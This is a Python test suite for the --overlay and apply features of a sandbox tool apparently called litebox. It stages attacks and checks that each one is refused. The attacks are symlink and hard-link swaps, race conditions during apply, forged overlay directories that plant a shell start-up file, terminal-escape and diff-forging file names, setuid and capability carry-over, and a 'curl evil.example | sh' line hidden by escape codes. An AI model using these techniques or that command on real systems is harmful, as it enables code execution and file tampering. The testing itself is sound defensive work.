#!/usr/bin/env python3
"""Attacks on --overlay and `overlay diff` (review 3), each with its
control: a host socket put back in the overlaid tree still answers but its
inode cannot be changed through the sandbox; names the program chooses
cannot forge lines of `overlay diff` or `--patch`, nor act on the terminal,
while ordinary UTF-8 names stay readable; a name the program chose cannot
stop `overlay apply` half-way."""
import os
import shutil
import socket
import stat
import sys
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lbtest import eq, litebox, run, skip, test, tmpdir  # noqa: E402


def lbtest_litebox():
    return os.path.abspath(os.environ["LITEBOX"])


def workdir():
    d = tmpdir()
    os.chmod(d, 0o755)
    return d


@test
def a_host_socket_put_back_in_the_tree_answers_but_keeps_its_mode_owner_and_times():
    d = workdir()
    path = os.path.join(d, "agent.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    os.chmod(path, 0o600)
    os.utime(path, (1000000000, 1000000000))
    srv.listen(1)
    got = []

    def serve():
        c, _ = srv.accept()
        got.append(c.recv(64))
        c.close()
    th = threading.Thread(target=serve, daemon=True)
    th.start()
    before = os.lstat(path)
    script = (
        "import os, socket, sys\n"
        "p = sys.argv[1]\n"
        "for name, f in (('chmod', lambda: os.chmod(p, 0o777)),\n"
        "                ('utime', lambda: os.utime(p, (1, 1))),\n"
        "                ('chown', lambda: os.chown(p, 1, 1))):\n"
        "    try:\n"
        "        f(); print(name, 'changed')\n"
        "    except OSError as e:\n"
        "        print(name, 'errno', e.errno)\n"
        "s = socket.socket(socket.AF_UNIX); s.connect(p); s.sendall(b'hello')\n"
        "print('connected')\n")
    for mode in ("--overlay", "--dry-run"):
        args = ["run", "-q", "-p", "permissive"]
        args += [mode, os.path.join(d, "ovl")] if mode == "--overlay" else [mode]
        if mode == "--dry-run":  # a second connection for the second run
            th = threading.Thread(target=serve, daemon=True)
            th.start()
        p = litebox(*args, "--", sys.executable, "-c", script, path, cwd=d,
                    env=dict(os.environ, TMPDIR=d))
        eq(p.returncode, 0, p.stderr)
        lines = p.stdout.split("\n")
        # the control: the host's socket still answers through the tree
        assert "connected" in lines, p.stdout + p.stderr
        for name in ("chmod", "utime", "chown"):
            eq(f"{name} errno 30" in lines, True, f"{mode}: {name}: {p.stdout}")
        th.join(5)
        after = os.lstat(path)
        eq((stat.S_IMODE(after.st_mode), after.st_uid, after.st_gid, after.st_mtime),
           (stat.S_IMODE(before.st_mode), before.st_uid, before.st_gid, before.st_mtime),
           f"{mode}: the host's socket")
    srv.close()
    eq(got, [b"hello", b"hello"], "what the host's server received")


NAMES = {
    "forge": "evil\n+++ bnothing\n@@ -0,0 +1 @@\n+forged line\n\x1b[2Khidden",
    "bidi": "bidi-\u202ehs.txt",
    "c1": "csi-\u009b31m",
    "plain": "caf\u00e9 ok.txt",  # control: valid UTF-8 and a space stay as they are
}


@test
def overlay_diff_and_patch_escape_names_the_program_chose():
    if shutil.which("diff") is None:
        skip("no diff(1) for --patch")
    d = workdir()
    ovl = os.path.join(d, "ovl")
    raw = "import os, sys\nfor n in sys.argv[1:]:\n    open(n, 'w').write('x\\n')\n"
    invalid = os.fsdecode(b"bad-\x9b2J")
    litebox("run", "-q", "--overlay", ovl, "-p", "permissive", "--", sys.executable, "-c",
            raw, *NAMES.values(), invalid, cwd=d, check=0)
    listing = litebox("overlay", "diff", ovl, check=0).stdout
    patch = litebox("overlay", "diff", "--patch", ovl, check=0).stdout
    for out, what in ((listing, "overlay diff"), (patch, "overlay diff --patch")):
        for bad in ("\x1b", "\u202e", "\u009b", "\n+forged line", "\n+++ bnothing"):
            assert bad not in out, f"{what} wrote {bad!r} raw:\n{out}"
        assert f"{d}/caf\u00e9 ok.txt" in out, f"{what} lost the plain name:\n{out}"
        assert f"{d}/bidi-\\342\\200\\256hs.txt" in out, out
        assert f"{d}/evil\\012+++ bnothing\\012" in out, out
        assert f"{d}/bad-\\2332J" in out, out
    eq(sorted(line.split("\t")[0] for line in listing.splitlines()), ["added"] * 5, listing)
    # one ---/+++ pair and one added line per file, nothing forged
    eq(sum(line.startswith("+++ ") for line in patch.splitlines()), 5, patch)
    eq(sum(line == "+x" for line in patch.splitlines()), 5, patch)


@test
def patch_on_a_terminal_shows_the_files_control_bytes_instead_of_obeying_them():
    # A file's own bytes (ESC, CR) could redraw the reviewer's terminal:
    # "+echo done" over "+curl ... | sh" (attack review O7). Piped, for
    # patch(1), the bytes pass unchanged.
    import pty
    import subprocess
    if shutil.which("diff") is None:
        skip("no diff(1) for --patch")
    d = workdir()
    ovl = os.path.join(d, "ovl")
    with open(os.path.join(d, "build.sh"), "w") as f:
        f.write("echo build ok\n")
    evil = "echo build ok\ncurl -s http://evil.example/x | sh\x1b[1A\x1b[2K\recho done\n"
    litebox("run", "-q", "--overlay", ovl, "--", sys.executable, "-c",
            f"open('build.sh', 'w').write({evil!r})", cwd=d)
    master, slave = pty.openpty()
    p = subprocess.Popen([lbtest_litebox(), "overlay", "diff", "--patch", ovl], stdout=slave,
                         stderr=subprocess.PIPE)
    os.close(slave)
    out = b""
    while True:
        try:
            chunk = os.read(master, 4096)
        except OSError:
            break
        if not chunk:
            break
        out += chunk
    p.wait()
    os.close(master)
    assert b"\x1b" not in out and b"\r" not in out.replace(b"\r\n", b"\n"), out
    assert b"sh^[[1A^[[2K^Mecho done" in out, out
    piped = litebox("overlay", "diff", "--patch", ovl, check=0).stdout
    assert "sh\x1b[1A\x1b[2K" in piped, repr(piped)  # (text mode reads \r as a newline)


@test
def apply_writes_a_name_near_name_max_and_ignores_a_fifo_at_an_old_temporary_name():
    d = workdir()
    for n in ("a_config", "c_config"):
        with open(os.path.join(d, n), "w") as f:
            f.write("v1\n")
    long_name = "b_" + "0" * 250  # 252 bytes: NAME.litebox-apply would not fit
    os.mkfifo(os.path.join(d, "c_config.litebox-apply"))  # an apply must not open it
    ovl = os.path.join(d, "ovl")
    litebox("run", "-q", "--overlay", ovl, "-p", "permissive", "--", "sh", "-c",
            f"echo v2 > a_config; echo x > {long_name}; echo v2 > c_config", cwd=d, check=0)
    for n in ("a_config", "c_config"):  # the control: the host is untouched until apply
        eq(open(os.path.join(d, n)).read(), "v1\n", n)
    litebox("overlay", "apply", ovl, check=0, timeout=60)
    eq(open(os.path.join(d, "a_config")).read(), "v2\n", "a_config")
    eq(open(os.path.join(d, long_name)).read(), "x\n", "the long name")
    eq(open(os.path.join(d, "c_config")).read(), "v2\n", "c_config, sorted after it")
    eq(sorted(n for n in os.listdir(d) if n.startswith(".litebox-apply")), [],
       "temporaries left behind")


@test
def an_overlay_xattr_the_program_sets_is_its_own_and_deletes_nothing():
    """In a root run overlayfs keeps its marks in trusted.overlay.*; a
    user.overlay.opaque the program sets is an ordinary xattr (and the
    other way round without root, where the program cannot set it)."""
    d = workdir()
    proj = os.path.join(d, "proj")
    os.makedirs(os.path.join(proj, "src"))
    for name in ("README", "src/main.c"):
        with open(os.path.join(proj, name), "w") as f:
            f.write("host\n")
    ovl = os.path.join(d, "ovl")
    script = ("import os\n"
              "try:\n    os.setxattr('.', 'user.overlay.opaque', b'y')\n"
              "except OSError as e:\n    print('setxattr errno', e.errno)\n"
              "os.unlink('README')\n"  # the control: a real deletion
              "print(sorted(os.listdir('.')))\n")
    p = litebox("run", "-q", "--overlay", ovl, "-p", "permissive", "--", sys.executable,
                "-c", script, cwd=proj, check=0)
    eq(p.returncode, 0, p.stderr)
    assert "['src']" in p.stdout, p.stdout
    listing = litebox("overlay", "diff", ovl).stdout
    kinds = sorted(tuple(line.split("\t")[::2]) for line in listing.splitlines())
    want = [("deleted", f"{proj}/README")]
    if "setxattr errno" not in p.stdout:
        want.append(("xattrs", proj))
    eq(kinds, sorted(want), listing)
    with open(os.path.join(ovl, "manifest")) as f:
        ns = "trusted" if os.geteuid() == 0 else "user"
        assert f"xattr {ns}\n" in f.read(), "the manifest names the namespace"
    litebox("overlay", "apply", ovl)
    eq(sorted(os.listdir(proj)), ["src"], "the host after apply")
    eq(os.listdir(os.path.join(proj, "src")), ["main.c"], "src kept its entries")


@test
def apply_makes_no_setuid_file_and_diff_shows_the_bits():
    """A setuid file the program moved into its tree and rewrote keeps
    S_ISUID in the layer (the program keeps CAP_FSETID as root); diff
    shows the bits, apply writes the file without them. Control: a plain
    executable and a sticky-free mode change arrive as they were."""
    d = workdir()
    sysd, proj = os.path.join(d, "sys"), os.path.join(d, "proj")
    os.makedirs(sysd)
    os.makedirs(proj)
    helper = os.path.join(sysd, "helper")
    shutil.copy("/bin/true", helper)
    os.chmod(helper, 0o4755)
    ovl = os.path.join(d, "ovl")
    script = ("import os\n"
              "os.rename('../sys/helper', 'tool')\n"
              "fd = os.open('tool', os.O_WRONLY | os.O_TRUNC)\n"
              "os.write(fd, b'#!/bin/sh\\nexit 0\\n'); os.close(fd)\n"
              "open('plain', 'w').write('#!/bin/sh\\n'); os.chmod('plain', 0o750)\n"
              "print(oct(os.stat('tool').st_mode & 0o7777))\n")
    p = litebox("run", "-q", "--overlay", ovl, "-p", "permissive", "--", sys.executable,
                "-c", script, cwd=proj, check=0)
    eq(p.returncode, 0, p.stderr)
    listing = litebox("overlay", "diff", ovl).stdout
    assert "added\tfile\t" + os.path.join(proj, "plain") in listing, listing
    if p.stdout.strip() == "0o4755":
        assert "added\tfile 4755\t" + os.path.join(proj, "tool") in listing, listing
    litebox("overlay", "apply", ovl)
    eq(stat.S_IMODE(os.lstat(os.path.join(proj, "tool")).st_mode) & 0o6000, 0, "setuid bits")
    eq(stat.S_IMODE(os.lstat(os.path.join(proj, "plain")).st_mode), 0o750, "the control's mode")
    with open(os.path.join(proj, "tool"), "rb") as f:
        eq(f.read(), b"#!/bin/sh\nexit 0\n", "the program's bytes")
    assert not os.path.exists(helper), "the rename applied"


@test
def a_dry_run_refuses_for_real_what_would_reach_the_host():
    """--dry-run is no plain audit: a connect to a host daemon's socket
    the policy does not grant stays refused (a deny record), while a file
    write lands in the overlay and is reported (the control)."""
    d = workdir()
    path = os.path.join(d, "daemon.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    srv.listen(1)
    srv.settimeout(0.5)
    script = ("import socket, sys\n"
              "open('control', 'w').write('x')\n"
              "s = socket.socket(socket.AF_UNIX)\n"
              "try:\n    s.connect(sys.argv[1]); print('connected')\n"
              "except OSError as e:\n    print('connect errno', e.errno)\n")
    p = litebox("run", "--dry-run", "--", sys.executable, "-c", script, path, cwd=d,
                env=dict(os.environ, TMPDIR=d), check=0)
    assert "connect errno" in p.stdout, p.stdout + p.stderr
    try:
        srv.accept()
        reached = True
    except OSError:
        reached = False
    srv.close()
    eq(reached, False, "the host daemon was reached")
    assert "would change: added\tfile\t" + os.path.join(d, "control") in p.stderr, p.stderr
    eq(os.path.exists(os.path.join(d, "control")), False, "the control on the host")
    eq([n for n in os.listdir(d) if n.startswith("litebox-dry-run")], [], "DIR left behind")


@test
def a_user_whose_uid_is_not_the_overflow_uid_can_diff_and_dry_run():
    """Root's 0700 /root gives a layer root of mode 0000 owned by the
    user: diff, the record and --dry-run must still read it (before,
    exit 125 for every uid but 65534)."""
    import subprocess
    from lbtest import LITEBOX
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        skip("needs root and setpriv to run as uid 1234")
    d = workdir()
    os.chmod(d, 0o777)
    as_user = ["setpriv", "--reuid=1234", "--regid=1234", "--clear-groups", "env",
               f"TMPDIR={d}", "HOME=/nonexistent", LITEBOX]
    def run_as(*args):
        return subprocess.run(as_user + list(args), capture_output=True, text=True, cwd=d,
                              timeout=120)
    ovl = os.path.join(d, "ovl")
    # (a write in d would meet the EOVERFLOW limit: d's parent is root's)
    p = run_as("run", "-q", "--overlay", ovl, "-p", "permissive", "--", "true")
    if p.returncode in (126, 127):
        skip(f"litebox not runnable as uid 1234: {p.stderr}")
    eq(p.returncode, 0, p.stderr)
    q = run_as("overlay", "diff", ovl)
    eq((q.returncode, q.stdout), (0, ""), q.stderr)
    r = run_as("run", "--dry-run", "--", "true")
    eq(r.returncode, 0, r.stderr)
    assert "no file would have changed" in r.stderr, r.stderr
    eq([n for n in os.listdir(d) if n.startswith("litebox-dry-run")], [], "DIR left behind")


# ---- litebox's own files in DIR (attack review 5: O2, O3, O5) ----------------

def overlay_dir_with_a_run(d, *args):
    ovl = os.path.join(d, "tool.ovl")
    litebox("run", "-q", *args, "--overlay", ovl, "--", "sh", "-c", "echo 1 > out.txt",
            cwd=d, check=0)
    return ovl


@test
def a_symlink_planted_at_dir_base_or_manifest_is_never_followed():
    """O3: DIR/base (the record, appended at every run's end) and
    DIR/manifest replaced by a symlink to a victim file: the victim keeps
    its bytes and the run says it cannot record; the control (base as
    litebox made it) records the run's change."""
    d = workdir()
    victim = os.path.join(d, "victim")
    with open(victim, "w") as f:
        f.write("victim bytes\n")
    ovl = overlay_dir_with_a_run(d)
    base = os.path.join(ovl, "base")
    eq(stat.S_IMODE(os.lstat(base).st_mode), 0o600, "DIR/base's mode")
    eq(stat.S_IMODE(os.lstat(os.path.join(ovl, "manifest")).st_mode), 0o600, "manifest's mode")
    # control: the record grows with a second run's change
    litebox("run", "-q", "--overlay", ovl, "--", "sh", "-c", "echo 2 > two.txt", cwd=d, check=0)
    assert "two.txt" in open(base).read(), open(base).read()
    os.unlink(base)
    os.symlink(victim, base)
    p = litebox("run", "-q", "--overlay", ovl, "--", "touch", "name-in-the-record", cwd=d)
    eq(open(victim).read(), "victim bytes\n", "the victim file (symlink at DIR/base)")
    assert "cannot record" in p.stderr, p.stderr
    # a hard link is another name of the victim: not DIR's own file either
    os.unlink(base)
    os.link(victim, base)
    litebox("run", "-q", "--overlay", ovl, "--", "touch", "name-in-the-record2", cwd=d)
    eq(open(victim).read(), "victim bytes\n", "the victim file (hard link at DIR/base)")
    os.unlink(base)
    man = os.path.join(ovl, "manifest")
    os.rename(man, man + ".orig")
    os.symlink(victim, man)
    p = litebox("run", "-q", "--overlay", ovl, "--", "mkdir", "-p", "/dev/shm/x", cwd=d)
    eq(open(victim).read(), "victim bytes\n", "the victim file (symlink at DIR/manifest)")
    assert p.returncode != 0, p.stderr


@test
def a_symlink_planted_at_a_layers_upper_never_becomes_the_overlays_upper():
    """O5: DIR/layers/1/upper (the layer of "/") swapped for a symlink to a
    victim directory: the next --audit run over DIR refuses to start, the
    victim's secret is not shown and nothing lands in the victim directory;
    the control (the upper put back) runs and keeps its write in DIR."""
    d = workdir()
    victim = os.path.join(d, "victim")
    os.mkdir(victim)
    with open(os.path.join(victim, "secret"), "w") as f:
        f.write("VICTIM-SECRET\n")
    ovl = overlay_dir_with_a_run(d, "--audit")
    layers = os.path.join(ovl, "layers")
    with open(os.path.join(ovl, "manifest")) as f:
        root_id = [ln.split()[1] for ln in f if ln.startswith("layer ") and ln.split()[2] == "/"]
    if not root_id:
        skip("no layer of / (a run without root overlays directories one by one)")
    upper = os.path.join(layers, root_id[0], "upper")
    os.rename(upper, upper + ".x")
    os.symlink(victim, upper)
    script = "cat /secret; echo planted > /planted"
    p = litebox("run", "-q", "--audit", "--overlay", ovl, "--", "sh", "-c", script, cwd=d)
    assert "VICTIM-SECRET" not in p.stdout, p.stdout
    eq(sorted(os.listdir(victim)), ["secret"], "the victim directory")
    assert p.returncode != 0 and "not litebox's" in p.stderr, p.stderr
    # the same with layers/ itself a symlink
    os.unlink(upper)
    os.rename(upper + ".x", upper)
    os.rename(layers, layers + ".x")
    os.symlink(layers + ".x", layers)
    p = litebox("run", "-q", "--audit", "--overlay", ovl, "--", "sh", "-c", script, cwd=d)
    assert p.returncode != 0, p.stderr
    os.unlink(layers)
    os.rename(layers + ".x", layers)
    p = litebox("run", "-q", "--audit", "--overlay", ovl, "--", "sh", "-c",
                "echo planted > /planted; cat /planted", cwd=d)
    eq((p.returncode, p.stdout), (0, "planted\n"), p.stderr)
    eq(os.path.exists("/planted"), False, "the control's write on the host")
    eq(sorted(os.listdir(victim)), ["secret"], "the victim directory")


@test
def a_dir_another_user_could_write_is_refused():
    """A DIR writable by group or others (its layer paths and record are
    trusted by apply): refused before the run; the control (0700) runs."""
    d = workdir()
    ovl = os.path.join(d, "shared.ovl")
    os.mkdir(ovl)
    os.chmod(ovl, 0o777)
    p = litebox("run", "-q", "--overlay", ovl, "--", "true", cwd=d)
    assert p.returncode != 0 and "not yours alone" in p.stderr, p.stderr
    eq(os.listdir(ovl), [], "the refused DIR")
    os.chmod(ovl, 0o700)
    litebox("run", "-q", "--overlay", ovl, "--", "true", cwd=d, check=0)


@test
def the_dry_run_clean_up_never_follows_a_directory_swapped_for_a_symlink():
    """O2: while --dry-run removes its DIR, a host process swaps the
    program's directory in it for a symlink to a victim directory holding
    a file of the same name: the victim file keeps its bytes (the removal
    is by descriptor). The control: the dry run's DIR is gone."""
    d = workdir()
    victim = os.path.join(d, "victim")
    os.mkdir(victim)
    with open(os.path.join(victim, "zz-victim-file"), "w") as f:
        f.write("precious\n")
    tmp = os.path.join(d, "tmp")
    os.mkdir(tmp)
    work = os.path.join(d, "w")
    os.mkdir(work)
    stop = threading.Event()
    swapped = []

    def swap():
        import glob
        a = None
        while not stop.is_set() and not a:
            for m in glob.glob(tmp + "/litebox-dry-run-*/layers/*/upper" + work + "/a"):
                a = m
        while not stop.is_set():
            try:
                if not os.path.exists(a + "/pad00000") and os.path.isdir(a):
                    os.rename(a, a + ".x")
                    os.symlink(victim, a)
                    swapped.append(a)
                    return
            except OSError:
                pass
    t = threading.Thread(target=swap)
    t.start()
    script = ("import os\nos.mkdir('a')\n"
              "for i in range(4000): open('a/pad%05d' % i, 'w').close()\n"
              "open('a/zz-victim-file', 'w').close()\n")
    p = litebox("run", "--dry-run", "--", sys.executable, "-c", script, cwd=work,
                env=dict(os.environ, TMPDIR=tmp), timeout=300)
    stop.set()
    t.join()
    eq(open(os.path.join(victim, "zz-victim-file")).read(), "precious\n",
       f"the victim file (swapped: {swapped})")
    if not swapped:
        eq([n for n in os.listdir(tmp) if n.startswith("litebox-dry-run")], [], "DIR left")
    assert "would have been made" in p.stderr, p.stderr


def user_xattrs_kept(d):
    try:
        os.setxattr(d, "user.litebox-test", b"1")
        os.removexattr(d, "user.litebox-test")
        return True
    except OSError:
        return False


@test
def a_later_plain_run_cannot_plant_anything_in_an_overlay_dir():
    """O1: DIR in the working directory, which the default profile lets
    every run write: a later plain run's writes into DIR (a layer of
    $HOME appended to the manifest, a file in a new layer, a base line, a
    rename of DIR, a symlink in it) are refused, and `overlay apply`
    writes nothing of it to the host (the victim directory stands for
    $HOME, which the default profile denies). Controls: the same run writes
    beside DIR, and apply makes the tool's own change."""
    d = workdir()
    home = tmpdir()  # outside $CWD and $TMPDIR: no run may write it
    env = dict(os.environ, TMPDIR=d, VICTIM=home)
    ovl = os.path.join(d, "tool.ovl")
    litebox("run", "-q", "--overlay", ovl, "--", "sh", "-c", "echo result > out.txt",
            cwd=d, env=env, check=0)
    manifest = open(os.path.join(ovl, "manifest"), "rb").read()
    plant = (
        "import os, sys\n"
        "home = os.environ['VICTIM']\n"
        "def try_(what, f):\n"
        "    try:\n        f(); print('DONE', what)\n"
        "    except OSError as e:\n        print('refused', what, e.errno)\n"
        "try_('manifest', lambda: open('tool.ovl/manifest', 'a').write('layer 77 %s\\n' % home))\n"
        "try_('layer', lambda: os.makedirs('tool.ovl/layers/77/upper'))\n"
        "try_('base', lambda: open('tool.ovl/base', 'a').write(home + '/.bash_login absent\\n'))\n"
        "try_('symlink', lambda: os.symlink(home, 'tool.ovl/layers/home'))\n"
        "try_('rename', lambda: os.rename('tool.ovl', 'tool.old'))\n"
        "try_('layers', lambda: os.rename('tool.ovl/layers', 'elsewhere'))\n"
        "try_('control', lambda: open('beside.txt', 'w').write('control'))\n")
    p = litebox("run", "--", sys.executable, "-c", plant, cwd=d, env=env)
    eq(p.stdout.count("refused"), 6, p.stdout + p.stderr)
    assert "DONE control" in p.stdout, p.stdout
    eq(open(os.path.join(d, "beside.txt")).read(), "control", "the control write")
    eq(open(os.path.join(ovl, "manifest"), "rb").read(), manifest, "DIR's manifest")
    eq(os.path.isdir(ovl), True, "DIR at its name")
    litebox("overlay", "apply", ovl, cwd=d, env=env, check=0)
    eq(os.path.exists(os.path.join(home, ".bash_login")), False, "a planted start-up file")
    eq(open(os.path.join(d, "out.txt")).read(), "result\n", "the tool's own change")


@test
def a_manifest_a_program_wrote_does_not_freeze_its_directory_for_later_runs():
    """O1b: writes into an overlay DIR are refused by its manifest and
    litebox's mark together; a manifest line a program wrote into $TMPDIR
    (no mark: no program may set it) made every later run's writes there
    fail. Control: a DIR litebox made stays refused (the test above)."""
    d = workdir()
    env = dict(os.environ, TMPDIR=d)
    p = litebox("run", "--", "sh", "-c", "head -1 /dev/null; printf 'litebox-overlay 1\\n' > manifest",
                cwd=d, env=env)
    eq(open(os.path.join(d, "manifest")).read(), "litebox-overlay 1\n", p.stderr)
    p = litebox("run", "--", "sh", "-c", "echo later > later.txt && echo ok", cwd=d, env=env)
    eq(p.stdout, "ok\n", p.stderr)
    eq(open(os.path.join(d, "later.txt")).read(), "later\n", "a later run's write")


@test
def overlay_apply_refuses_a_dir_a_program_made_to_look_like_litebox_s():
    """O1: a plain run builds a whole DIR of its own (a layer of $HOME
    with a start-up file, a base line, the manifest written last, with
    litebox's magic); setting litebox's mark on it is refused, and
    `overlay apply` refuses the DIR: the start-up file never reaches the
    host. Control: apply of a DIR litebox made writes its change."""
    d = workdir()
    if not user_xattrs_kept(d):
        skip("the test directory's filesystem keeps no user xattrs (no mark)")
    home = tmpdir()  # outside $CWD and $TMPDIR: no run may write it
    env = dict(os.environ, TMPDIR=d, VICTIM=home)
    forge = (
        "import os\n"
        "home = os.environ['VICTIM']\n"
        "os.makedirs('fake.ovl/layers/1/upper', mode=0o700)\n"
        "os.chmod('fake.ovl', 0o700)\n"
        "open('fake.ovl/layers/1/upper/.bash_login', 'w').write('echo PWNED\\n')\n"
        "open('fake.ovl/base', 'w').write(home + '/.bash_login absent\\n')\n"
        "try:\n    os.setxattr('fake.ovl', 'user.litebox.overlay', b'1'); print('MARKED')\n"
        "except OSError as e:\n    print('mark refused', e.errno)\n"
        "open('fake.ovl/manifest', 'w').write('litebox-overlay 1\\nxattr trusted\\nlayer 1 %s\\n' % home)\n")
    p = litebox("run", "--", sys.executable, "-c", forge, cwd=d, env=env)
    assert "mark refused" in p.stdout, p.stdout + p.stderr
    q = litebox("overlay", "apply", os.path.join(d, "fake.ovl"), cwd=d, env=env)
    assert q.returncode != 0 and "not made by litebox" in q.stderr, q.stderr
    eq(os.path.exists(os.path.join(home, ".bash_login")), False, "the forged layer's file")
    r = litebox("run", "-q", "--overlay", os.path.join(d, "fake.ovl"), "--", "true", cwd=d,
                env=env)
    assert r.returncode != 0 and "not made by litebox" in r.stderr, r.stderr
    ovl = os.path.join(d, "real.ovl")
    litebox("run", "-q", "--overlay", ovl, "--", "sh", "-c", "echo real > real.txt", cwd=d,
            env=env, check=0)
    litebox("overlay", "apply", ovl, cwd=d, env=env, check=0)
    eq(open(os.path.join(d, "real.txt")).read(), "real\n", "the control's change")


@test
def apply_never_writes_through_a_directory_swapped_for_a_symlink_during_apply():
    """O4: while `overlay apply` stages the tool's changes (a tree of 2000
    files first, then z/target), a process in the tree (a plain run may
    do this in $CWD) swaps z for a symlink to a victim directory: nothing
    lands in the victim directory (every host directory is opened
    without following a symlink and must stay the one first opened), and
    apply refuses, leaving the host as it was. Control: with z left
    alone, apply writes z/target."""
    def attempt(race):
        d = workdir()
        victim = tmpdir()
        os.mkdir(os.path.join(d, "z"))
        ovl = os.path.join(d, "tool.ovl")
        tool = ("import os\nos.mkdir('a-pad')\n"
                "for i in range(2000): open('a-pad/f%04d' % i, 'w').write('x')\n"
                "open('z/target', 'w').write('PWNED-BY-APPLY')\n")
        litebox("run", "-q", "--overlay", ovl, "--", sys.executable, "-c", tool, cwd=d,
                check=0)
        stop = threading.Event()
        swapped = []

        def swap():
            while not stop.is_set():
                if any(n.startswith(".litebox-apply-") for n in os.listdir(d)):
                    os.rename(os.path.join(d, "z"), os.path.join(d, "z.moved"))
                    os.symlink(victim, os.path.join(d, "z"))
                    swapped.append(True)
                    return
        t = threading.Thread(target=swap)
        if race:
            t.start()
        p = litebox("overlay", "apply", ovl, cwd=d, timeout=300)
        stop.set()
        if race:
            t.join()
        return d, victim, p, swapped
    d, victim, p, swapped = attempt(race=False)
    eq(p.returncode, 0, p.stderr)
    eq(open(os.path.join(d, "z", "target")).read(), "PWNED-BY-APPLY", "the control's file")
    d, victim, p, swapped = attempt(race=True)
    eq(os.listdir(victim), [], f"the victim directory (swapped: {swapped}; {p.stderr})")
    if swapped and os.path.isdir(os.path.join(d, "z.moved")):
        eq(os.listdir(os.path.join(d, "z.moved")), [], "the moved directory")



@test
def a_file_swapped_for_a_link_while_the_tree_is_built_is_not_bound():
    # The directory holding DIR is rebuilt entry by entry (to hide DIR),
    # each file bound from the host: a bind by name followed a symlink a racer
    # exchanged in after the look, showing a hidden file under a granted
    # name (the race fast mediation had, attack review F1).
    import ctypes
    d = workdir()
    tree = os.path.join(d, "tree")
    os.makedirs(tree)
    secret_dir = os.path.join(tmpdir(), "hidden")
    os.mkdir(secret_dir)
    with open(os.path.join(secret_dir, "key"), "w") as f:
        f.write("HIDDEN-KEY-MARKER\n")
    plain = os.path.join(tree, "plain.txt")
    with open(plain, "w") as f:
        f.write("plain\n")
    link = os.path.join(tree, "swap")
    os.symlink(os.path.join(secret_dir, "key"), link)
    pol = os.path.join(d, "p.policy")
    with open(pol, "w") as f:
        f.write(f'version 1\ninclude permissive\nhide "{secret_dir}"\n')
    libc = ctypes.CDLL(None, use_errno=True)
    stop = threading.Event()

    def race():
        while not stop.is_set():
            libc.renameat2(-100, plain.encode(), -100, link.encode(), 2)

    t = threading.Thread(target=race)
    t.start()
    seen = ""
    try:
        for i in range(12):
            p = litebox("run", "-q", "--overlay", os.path.join(tree, f"ovl{i}"), "-p", pol, "--",
                        "/bin/cat", plain, cwd=d)
            seen += p.stdout
    finally:
        stop.set()
        t.join()
    assert "HIDDEN-KEY-MARKER" not in seen, seen
    # control: without the racer the file is read through the rebuilt tree
    if os.path.islink(plain):
        libc.renameat2(-100, plain.encode(), -100, link.encode(), 2)
    p = litebox("run", "-q", "--overlay", os.path.join(tree, "ovl-control"), "-p", pol, "--",
                "/bin/cat", plain, cwd=d)
    eq(p.stdout, "plain\n", p.stderr)


@test
def apply_never_makes_a_file_carrying_a_capability():
    # The overlay copies a host file up with its xattrs: a file carrying a
    # capability (ping's cap_net_raw) that the program renamed had apply,
    # run as root, make a new capability-carrying file at its name (review).
    if os.geteuid() != 0:
        skip("setting a file capability needs root")
    d = workdir()
    f = os.path.join(d, "prog")
    with open(f, "wb") as fh:
        fh.write(b"original\n")
    cap = b"\x01\x00\x00\x02\x00\x20\x00\x00" + bytes(12)  # v2, CAP_NET_RAW permitted
    try:
        os.setxattr(f, "security.capability", cap)
    except OSError as e:
        skip(f"no file capabilities here: {e}")
    os.setxattr(f, "user.note", b"kept")
    ovl = os.path.join(tmpdir(), "ovl")
    # a rename keeps the copied-up xattrs (a write would clear the
    # capability in the kernel): apply makes a new file of it
    litebox("run", "-q", "--overlay", ovl, "-p", "permissive", "--", "/bin/sh", "-c",
            "cp -a prog prog2 2>/dev/null; mv prog newname", cwd=d, check=0)
    litebox("overlay", "apply", ovl, cwd=d, check=0)
    g = os.path.join(d, "newname")
    eq(open(g).read(), "original\n", "the renamed file was applied")
    eq("security.capability" in os.listxattr(g), False, "no capability on a file apply made")
    eq(os.getxattr(g, "user.note"), b"kept", "control: a user xattr is kept")

if __name__ == "__main__":
    run()
